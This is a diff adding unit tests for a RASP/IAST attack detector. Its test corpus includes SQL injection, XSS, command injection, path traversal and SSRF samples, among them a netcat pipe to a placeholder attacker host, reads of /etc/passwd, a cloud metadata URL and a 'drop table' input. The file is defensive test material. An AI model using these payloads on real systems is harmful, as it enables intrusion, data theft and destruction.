@@ -0,0 +1,164 @@
+"""
+Unit tests for the shared RASP/IAST attack detector
+"""
+import re
+from types import SimpleNamespace
+from unittest.mock import AsyncMock
+
+import pytest
+
+from app.models.security_advanced_models import AttackType, FindingSeverity
+from app.services import native_iast_service as iast_module
+from app.services.attack_detector import AttackDetector, DetectorCache
+from app.services.native_iast_service import DETECTION_CATEGORIES, NativeIASTService
+from app.services.native_rasp_service import ATTACK_PATTERNS, NativeRASPService
+from app.services.pattern_matcher import PatternRule
+
+# The quoted-logic rule used a backreference before it joined the combined pattern
+LEGACY_PATTERNS = {"iast.sqli.quoted-logic": r"(\'|\")(\s*)(or|and)(\s*)(\1)"}
+
+CORPUS = [
+    "",
+    '{"name": "Ada Lovelace", "email": "ada@example.com", "tags": ["math", "engines"]}',
+    "application/json",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
+    "SELECT name FROM users WHERE id = 1",
+    "1' OR '1'='1",
+    "x' or 1=1 --",
+    "\" and \"",
+    "SLEEP(5)",
+    "<ScRiPt>alert(document.cookie)</script>",
+    "<img src=x\nonerror=alert(1)>",
+    "<svg/onload=confirm(1)>",
+    "javascript:void(0)",
+    "; cat /etc/passwd",
+    "$(whoami)",
+    "`id`",
+    "a | nc attacker 4444",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2fetc",
+    "http://127.0.0.1:8080/admin",
+    "http://169.254.169.254/latest",
+    "http://10.0.0.12/internal",
+    "http://172.20.1.1/ and http://192.168.1.10/",
+    "gopher://localhost:25/",
+    "dict://host:11211/",
+    "select\n*\nfrom t",  # '.' does not cross lines
+    "ſelect name from users",  # long s folds to "s" in IGNORECASE regexes
+    "ordinary text about an update to the schedule from Monday",
+]
+
+
+def _legacy_first(categories, text):
+    for category, rules in categories:
+        for rule in rules:
+            match = re.compile(LEGACY_PATTERNS.get(rule.id, rule.pattern), re.IGNORECASE).search(text)
+            if match:
+                return category, match.group(0)
+    return None
+
+
+def _legacy_all(categories, text):
+    found = {}
+    for category, rules in categories:
+        for rule in rules:
+            match = re.compile(LEGACY_PATTERNS.get(rule.id, rule.pattern), re.IGNORECASE).search(text)
+            if match:
+                found[category] = match.group(0)
+                break
+    return found
+
+
+def _rasp_config(**overrides):
+    values = dict(
+        id="cfg", whitelist_ips=[], custom_block_patterns=[], block_sql_injection=True, block_xss=True,
+        block_command_injection=True, block_path_traversal=True, block_ssrf=True,
+    )
+    values.update(overrides)
+    return SimpleNamespace(**values)
+
+
+@pytest.mark.parametrize("text", CORPUS)
+def test_detector_matches_sequential_rule_evaluation(text):
+    rasp_categories = list(ATTACK_PATTERNS.items())
+    iast_categories = [(category, rules) for category, _, rules, _ in DETECTION_CATEGORIES]
+
+    assert AttackDetector(rasp_categories).first_match(text) == _legacy_first(rasp_categories, text)
+    assert AttackDetector(iast_categories).matches(text) == _legacy_all(iast_categories, text)
+
+
+def test_rasp_uses_enabled_categories_and_custom_patterns():
+    service = NativeRASPService()
+
+    sqli = service.analyze_request(_rasp_config(), "1.2.3.4", "POST", "/login", body="' or 1=1")
+    assert (sqli.attack_type, sqli.severity, sqli.matched_pattern) == (
+        AttackType.SQL_INJECTION, FindingSeverity.CRITICAL, "or 1=1",
+    )
+
+    config = _rasp_config(block_sql_injection=False, block_command_injection=False,
+                          custom_block_patterns=[r"wp-admin", "(unclosed"])
+    assert not service.analyze_request(config, "1.2.3.4", "GET", "/", body="select a from b where c").is_attack
+    custom = service.analyze_request(config, "1.2.3.4", "GET", "/", headers={"Referer": "https://x/WP-Admin/"})
+    assert (custom.attack_type, custom.matched_pattern) == (AttackType.OTHER, "WP-Admin")
+
+    whitelisted = _rasp_config(whitelist_ips=["1.2.3.4"])
+    assert not service.analyze_request(whitelisted, "1.2.3.4", "GET", "/", body="<script>").is_attack
+
+
+def test_long_inputs_are_inspected_in_overlapping_windows():
+    detector = AttackDetector(list(ATTACK_PATTERNS.items()), max_input_chars=100)
+
+    assert detector.first_match("a" * 50 + "<script>") == (AttackType.XSS, "<script>")
+    # Padding past the window size, and payloads straddling a window boundary, are still found
+    assert detector.first_match("a" * 10_000 + "<script>") == (AttackType.XSS, "<script>")
+    for offset in range(88, 104):
+        assert detector.first_match("a" * offset + "<script>" + "b" * 500) == (AttackType.XSS, "<script>")
+    assert set(detector.matches("<script>" + "a" * 1000 + "' or 1=1")) == {AttackType.XSS, AttackType.SQL_INJECTION}
+    assert detector.first_match("a" * 10_000) is None
+
+
+def test_detector_cache_rebuilds_on_version_change_and_evicts_lru():
+    cache = DetectorCache(max_entries=2)
+    builds = []
+
+    def build(name):
+        builds.append(name)
+        return AttackDetector([("c", [PatternRule(name, name)])])
+
+    first = cache.get(("p1", 1), lambda: build("a"))
+    assert cache.get(("p1", 1), lambda: build("b")) is first
+    cache.get(("p1", 2), lambda: build("c"))  # config changed
+    cache.get(("p1", 1), lambda: build("d"))  # still cached, now most recent
+    cache.get(("p2", 1), lambda: build("e"))  # evicts ("p1", 2)
+    cache.get(("p1", 2), lambda: build("f"))
+
+    assert builds == ["a", "c", "e", "f"] and len(cache) == 2
+
+
+@pytest.mark.asyncio
+async def test_iast_reports_each_enabled_category_once_per_input(monkeypatch):
+    monkeypatch.setattr(iast_module, "get_detector_cache", lambda cache=DetectorCache(): cache)
+    service = NativeIASTService(db=None)
+    service._save_finding = AsyncMock()
+    service.active_sessions["token"] = {
+        "id": "session", "config": {"detect_command_injection": False}, "requests_analyzed": 0,
+        "vulnerabilities_found": 0,
+    }
+
+    findings = await service.analyze_request(
+        "token", "GET", "http://app.test/search?q=<script>alert(1)</script>&file=../../etc/passwd",
+        headers={"User-Agent": "curl/8.0"}, body="id=1; drop table users", response_body="no reflection here",
+    )
+
+    assert [(f.vulnerability_type, f.sink_location) for f in findings] == [
+        ("SQL Injection", "body"), ("Path Traversal", "query:file"),
+    ]  # the script in q is not reflected, and command injection is switched off
+    assert findings[0].description == "Potentially malicious SQL pattern detected: ;"
+    assert service._save_finding.await_count == 2
+    assert service.active_sessions["token"]["vulnerabilities_found"] == 2
+
+    reflected = await service.analyze_request(
+        "token", "GET", "http://app.test/?q=<svg onload=x>", response_body="<p><svg onload=x></p>",
+    )
+    assert [f.title for f in reflected] == ["XSS detected - input reflected in response"]